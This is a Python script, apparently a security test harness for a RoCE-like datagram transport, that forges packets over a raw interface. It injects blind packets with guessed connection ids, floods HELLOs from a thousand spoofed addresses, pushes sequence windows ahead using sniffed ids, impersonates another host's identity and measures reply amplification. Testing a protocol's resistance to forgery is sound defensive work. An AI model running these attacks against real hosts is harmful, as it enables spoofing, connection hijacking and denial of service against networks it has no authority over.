#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0 OR Linux-OpenIB
"""Forge packets as a host would that does not see its victims' traffic.

  mroce_forge.py [options] IFACE TARGET-MAC TARGET-ADDRESS SET

Sets: DATA, ACK, PROBE, PROBE_ACK, HELLO (no cookie), COOKIE (a HELLO with a guessed
one), HELLO_ACK, UNKNOWN: --count of them from the address --source, right in all that
everybody knows, guessed in the rest. KNOWN: HELLO_ACKs with a true connection id and
a guessed nonce; the ids are printed. LEAP: one PROBE for each path with a true id and a
number far ahead, as somebody can forge who does see the packets. flood: HELLOs from a thousand addresses for
--seconds. The last line is "sent N packets".
STEAL: the host at --source, which may have answers, says HELLO in the name of --owner.
amplify: what comes back from the target to an address that has proved nothing, one line
for each kind of packet: "amplify KIND sent-bytes received-bytes", UDP payload.
"""
import argparse
import random
import struct
import sys
import time

import rawlink
from rawlink import ACK, COOKIE_ONLY, DATA, HELLO, HELLO_ACK, PROBE, PROBE_ACK, UNKNOWN, VERSION

PACE_S = 0.0015		# UNKNOWN comes once in a millisecond
QUIET_S = 0.5


def common(kind, opcode, flags, dcid):
    return struct.pack("!BBHI", VERSION << 4 | kind, opcode, flags, dcid)


class Forger:
    """What an attacker knows, and his dice"""

    def __init__(self, rng):
        self.rng = rng
        self.ids = []

    def bits(self, count):
        return self.rng.getrandbits(count) or 1

    def qpn(self):
        """They are handed out one after the other"""
        return self.rng.randrange(16, 80)

    def data(self):
        length = self.rng.choice((0, 8, 64, 1024))
        psn = self.bits(32)
        opcode = self.rng.choice((1, 2, 3, 4))
        return common(DATA, opcode, 1, self.bits(32)) + struct.pack(
            "!BBHIIIIIIIQIIHHI", self.rng.randrange(8), 0, self.bits(16), self.bits(32), self.qpn(),
            64 << 24 | self.qpn(), psn, psn, length, self.rng.randrange(4),
            0 if opcode < 3 else self.bits(47), self.bits(32), 0, length, 0, 0) + bytes(length)

    def ack(self, kind=ACK):
        part = struct.pack("!BBHII4Q", self.rng.randrange(8), 0, 0, self.bits(32), 0,
                           *[(1 << 64) - 1] * 4)
        record = struct.pack("!IIHBBHHIII", self.qpn(), self.qpn(), self.bits(16),
                             self.rng.choice((0, 3, 6, 7)), 0, 0, 0, self.bits(32), self.bits(32),
                             self.bits(32))
        return common(kind, 1, 0, self.bits(32)) + struct.pack("!IBBHII", 0, 1, 0, 0, 0, 0) + \
            part + record

    def probe(self):
        return common(PROBE, 1, 1, self.bits(32)) + \
            struct.pack("!BBHIII", self.rng.randrange(8), 0, 0, self.bits(32), 0, 0) + \
            struct.pack("!IIHH", self.qpn(), self.qpn(), self.bits(16), 0)

    def hello(self, cookie=0, length=88, **more):
        return rawlink.hello(scid=self.bits(32), nonce=self.bits(64), cookie=cookie, length=length,
                             **more)

    def hello_ack(self, dcid):
        return rawlink.hello(HELLO_ACK, flags=self.rng.choice((0, COOKIE_ONLY)), dcid=dcid,
                             scid=self.bits(32), nonce=self.bits(64), peer_nonce=self.bits(64),
                             cookie=self.bits(64), payload=1024, length=64 + 1024)

    def unknown(self):
        return common(UNKNOWN, 0, 0, 0) + struct.pack("!II", self.bits(32), 0)

    def make(self, what):
        return {"DATA": self.data, "ACK": self.ack, "PROBE": self.probe, "HELLO": self.hello,
                "PROBE_ACK": lambda: self.ack(PROBE_ACK), "UNKNOWN": self.unknown,
                "COOKIE": lambda: self.hello(self.bits(64)),
                "HELLO_ACK": lambda: self.hello_ack(self.bits(32)),
                "KNOWN": lambda: self.hello_ack(self.rng.choice(self.ids))}[what]()


class Attack:
    def __init__(self, args):
        self.args = args
        self.rng = random.Random(args.seed)
        self.forger = Forger(self.rng)
        self.link = rawlink.Link(args.interface)
        with open("/sys/class/net/%s/address" % args.interface, encoding="ascii") as file:
            self.macs = rawlink.mac(args.mac) + rawlink.mac(file.read().strip())
        self.target = rawlink.address(args.target)

    def packet(self, payload, source=None):
        return rawlink.Packet(self.macs, source or rawlink.address(self.args.source), self.target,
                              self.rng.randrange(49152, 65536), payload)

    def learn_ids(self):
        """True ids of the target's connections"""
        end = time.monotonic() + 10
        while len(self.forger.ids) < 8 and time.monotonic() < end:
            seen = self.link.receive(0.2)
            if seen and seen.outgoing and seen.dst == self.target and seen.kind in (DATA, ACK):
                self.forger.ids.append(struct.unpack("!I", seen.payload[4:8])[0])
        if not self.forger.ids:
            sys.exit("no packet seen")

    def blind(self):
        if self.args.set == "KNOWN":
            self.learn_ids()
            print("ids", *("%d %x" % (number, number) for number in set(self.forger.ids)))
        for i in range(self.args.count):
            self.link.send(self.packet(self.forger.make(self.args.set)))
            if i % 64 == 63:
                time.sleep(0.01)

    def leap(self):
        """Move the windows of all paths to where the sender will not be for long."""
        paths = {}
        end = time.monotonic() + 10
        while len(paths) < self.args.count and time.monotonic() < end:
            seen = self.link.receive(0.2)
            if seen and seen.outgoing and seen.dst == self.target and seen.kind == DATA:
                number, = struct.unpack("!I", seen.payload[12:16])
                paths[seen.payload[8]] = (seen.payload[4:8], number)
                end = min(end, time.monotonic() + 2)
        for path, (dcid, number) in sorted(paths.items()):
            self.link.send(self.packet(common(PROBE, 0, 1, 0)[:4] + dcid + struct.pack(
                "!BBHIII", path, 0, 0, (number + 60000) & 0xffffffff, 0, 0)))

    def flood(self):
        sources = [struct.pack("!BBH", 10, 77, self.rng.randrange(1, 65535)) for _ in range(1024)]
        frames = [self.packet(self.forger.hello(self.rng.choice((0, 0, 0, 7))), source).frame()
                  for source in sources]
        end = time.monotonic() + self.args.seconds
        while time.monotonic() < end:
            for frame in frames:
                self.link.send_frame(frame)

    def exchange(self, what, payloads, answer=None):
        """Send them, and add up what comes back; answer() may make one more of each reply."""
        source = rawlink.address(self.args.source)
        self.link.only(self.target, source)
        sent = received = 0
        payloads = list(payloads)
        wait_s = PACE_S
        while wait_s:
            if payloads:
                payload = payloads.pop()
                sent += len(payload)
                self.link.send(self.packet(payload))
            else:
                wait_s = QUIET_S
            reply = self.link.receive(wait_s)
            while reply:
                received += len(reply.payload)
                more = answer(reply.payload) if answer else None
                if more:
                    payloads.append(more)
                reply = self.link.receive(0)
            if wait_s == QUIET_S and not payloads:
                wait_s = 0
        print("amplify %s %d %d" % (what, sent, received))

    def with_cookie(self, length, **more):
        """Come back with the cookie, in a packet of that length that asks for all there is."""
        def answer(reply):
            if len(reply) < 40:
                return None
            fields = struct.unpack("!BBHIBBBBIQQQ", reply[:40])
            if fields[0] & 15 != HELLO_ACK or not fields[2] & COOKIE_ONLY or length is None:
                return None
            if fields[10] in used:
                return None
            used.add(fields[10])
            return rawlink.hello(scid=fields[3], nonce=fields[10], cookie=fields[11], length=length,
                                 **more)
        used = set()
        return answer

    def steal(self):
        mapped = bytes(10) + b"\xff\xff"
        gids = mapped + rawlink.address(self.args.owner) + mapped + self.target
        self.exchange("STEAL", [self.forger.hello(length=64 + 8192, gids=gids)
                                for _ in range(self.args.count)],
                      self.with_cookie(64 + 8192, gids=gids))

    def amplify(self):
        count = self.args.count
        for what in ("HELLO", "COOKIE", "HELLO_ACK", "DATA", "ACK", "PROBE", "PROBE_ACK",
                     "UNKNOWN"):
            self.exchange(what, [self.forger.make(what) for _ in range(count)])
        self.exchange("HELLO-padded", [self.forger.hello(length=64 + 8192) for _ in range(count)])
        self.exchange("HELLO-short-with-cookie", [self.forger.hello() for _ in range(count)],
                      self.with_cookie(88))
        self.exchange("HELLO-full-with-cookie", [self.forger.hello() for _ in range(count)],
                      self.with_cookie(64 + 8192))


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("interface")
    parser.add_argument("mac")
    parser.add_argument("target")
    parser.add_argument("set")
    parser.add_argument("--source", default="10.9.0.77")
    parser.add_argument("--owner", default="10.9.0.1")
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--seed", type=int, default=1)
    attack = Attack(parser.parse_args())
    named = {"flood": attack.flood, "LEAP": attack.leap, "amplify": attack.amplify,
             "STEAL": attack.steal}
    named.get(attack.args.set, attack.blind)()
    print("sent %d packets" % attack.link.sent)


if __name__ == "__main__":
    main()
